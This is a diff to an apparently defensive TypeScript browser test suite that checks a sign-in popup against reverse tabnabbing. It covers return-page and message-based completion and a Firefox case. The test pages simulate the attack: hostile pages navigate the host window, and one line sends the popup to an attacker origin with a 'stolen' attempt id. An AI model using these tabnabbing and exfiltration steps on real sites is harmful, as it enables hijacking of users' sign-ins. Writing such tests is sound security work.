@@ -17,17 +17,27 @@ const reports = (setup: AttackSetup): readonly Report[] => setup.reports as unkn
 const isHostPageGone = async (setup: AttackSetup): Promise<boolean> => await until('the host\'s page', () =>
   setup.browser.page.evaluate(`location.origin === ${JSON.stringify(setup.host.origin)} && 'recorded' in window ? 'here' : 'gone'`)) === 'gone';
 
+/** A sign-in at a hostile page. Each needs its own connector: a page that was navigated away continues its sign-in when it comes back. */
+interface Attacked {
+  readonly id: string;
+  /** The element's attributes. */
+  readonly attributes?: string;
+  /** Runs in the host's page before the sign-in. */
+  readonly script?: string;
+}
+
 /** The popup shows a hostile page of the service, then one of the attacker, and the user clicks each. */
-async function showHostilePages(setup: AttackSetup, attributes: string): Promise<View> {
-  await setup.show({ 1: attributes });
+async function showHostilePages(setup: AttackSetup, { id, attributes = '', script = 'void 0' }: Attacked): Promise<View> {
+  await setup.show({ [id]: attributes });
+  await setup.browser.page.evaluate(script);
   // A name lets the hostile page target the host's window by `window.open`.
   await setup.browser.page.evaluate("window.name = 'fernhill'");
-  setup.connector('1').answer = { url: `${setup.service.origin}/page/tabnabber?id=1&token=t` };
+  setup.connector(id).answer = { url: `${setup.service.origin}/page/tabnabber?id=${id}&token=t` };
   setup.reports.length = 0;
-  const popup = await setup.beginSignIn('1');
+  const popup = await setup.beginSignIn(id);
   await waitForAttacks(setup, popup, setup.service.origin);
   if (await isHostPageGone(setup)) return popup;
-  await popup.evaluate(`void (location.href = ${JSON.stringify(`${setup.attacker.origin}/page/tabnabber`)} + location.search)`);
+  await popup.evaluate(`void (location.href = ${JSON.stringify(`${setup.attacker.origin}/page/tabnabber?stolen=${setup.connector(id).attemptId}`)})`);
   await waitForAttacks(setup, popup, setup.attacker.origin);
   return popup;
 }
@@ -44,7 +54,7 @@ async function waitForAttacks(setup: AttackSetup, popup: View, origin: string): 
 }
 
 async function checkWithReturnPage(setup: AttackSetup): Promise<string> {
-  const popup = await showHostilePages(setup, 'return-url="/return.html"');
+  const popup = await showHostilePages(setup, { id: '1', attributes: 'return-url="/return.html"' });
   if (await isHostPageGone(setup)) throw new Error('the host page was navigated away');
   setup.connector('1').authenticated = true;
   const { targetOrigin } = setup.connector('1').signInRequests[0]!;
@@ -60,21 +70,49 @@ async function checkWithReturnPage(setup: AttackSetup): Promise<string> {
   return `${reports(setup).length} reports, 0 with an opener; the host page stayed, completed by return`;
 }
 
-async function checkWithoutReturnPage(setup: AttackSetup): Promise<string> {
-  await showHostilePages(setup, '');
-  const isChromium = String(await setup.browser.page.evaluate('navigator.userAgent')).includes('Chrom');
-  const isGone = await until('the host page to navigate', () => isHostPageGone(setup), { timeout: 2_000 }).catch(() => false);
-  if (isChromium && !isGone) throw new Error('the attack does not work without a return page either, so this check proves nothing');
+const navigatesAway = (setup: AttackSetup): Promise<boolean> =>
+  until('the host page to navigate', () => isHostPageGone(setup), { timeout: 2_000 }).catch(() => false);
+
+/** Firefox lets a page navigate every top-level window that it can reach, the opener's parent included. */
+const isFirefox = async ({ browser }: AttackSetup): Promise<boolean> => String(await browser.page.evaluate('navigator.userAgent')).includes('Firefox');
+
+/** By message, the opener of the popup is a frame that leads nowhere. */
+async function checkByMessage(setup: AttackSetup): Promise<string> {
+  const popup = await showHostilePages(setup, { id: '2' });
+  const isAllowed = await isFirefox(setup);
+  if (await navigatesAway(setup)) {
+    if (isAllowed) return 'by message: the page is navigated away through opener.parent';
+    throw new Error('the host page was navigated away');
+  }
+  if (isAllowed) throw new Error('Firefox refuses the navigation through opener.parent now: expect it from Firefox, too');
   if (!reports(setup).every(({ opener }) => opener)) throw new Error('a page has no opener, although the popup completes by message');
-  return isGone ? 'without return-url: the page is navigated away, as the platform allows' : 'without return-url: the engine itself refuses';
+  const early = await setup.endsOf('2');
+  if (early.length) throw new Error(`the hostile pages ended the sign-in: ${early.join()}`);
+  setup.connector('2').authenticated = true;
+  await popup.evaluate(`void (location.href = ${JSON.stringify(`${setup.service.origin}/callback`)})`);
+  await until('the service', async () => await popup.evaluate('document.readyState === "complete" && location.pathname') === '/callback');
+  await popup.evaluate(`opener.postMessage(${JSON.stringify(setup.connector('2').attemptId)}, ${JSON.stringify(setup.host.origin)})`);
+  await setup.waitForState('2', 'connected');
+  const ends = await setup.endsOf('2');
+  if (ends.join() !== 'complete message') throw new Error(`the sign-in ended with ${ends.join()}`);
+  return `by message: ${reports(setup).length} reports, all with an opener; the host page stayed, completed by message`;
+}
+
+/** The same attacks where the page itself opens the popup. They show that the attacks work. */
+async function attackOrdinaryPopup(setup: AttackSetup): Promise<string> {
+  await showHostilePages(setup, { id: '3', script: 'void ((open) => { window.open = (...all) => open(...all); })(window.open)' });
+  if (!await navigatesAway(setup)) throw new Error('the attack does not work with an ordinary popup either, so this check proves nothing');
+  return 'from an ordinary popup: the page is navigated away';
 }
 
 export const reverseTabnabbing: Check = {
-  what: 'with a return page, every page in the popup has a null opener and cannot navigate the host page',
+  what: 'no page in the popup can navigate or close the host page, or complete the sign-in: by return page, and but for Firefox by message',
   run: AttackSetup.run(async (setup) => {
-    const first = await checkWithReturnPage(setup);
-    for (const each of await setup.browser.popups()) await each.close().catch(() => undefined);
-    return `${first}; ${await checkWithoutReturnPage(setup)}`;
+    const results = [];
+    for (const attack of [checkWithReturnPage, checkByMessage, attackOrdinaryPopup]) {
+      results.push(await attack(setup));
+      for (const each of await setup.browser.popups()) await each.close().catch(() => undefined);
+    }
+    return results.join('; ');
   }),
 };
-
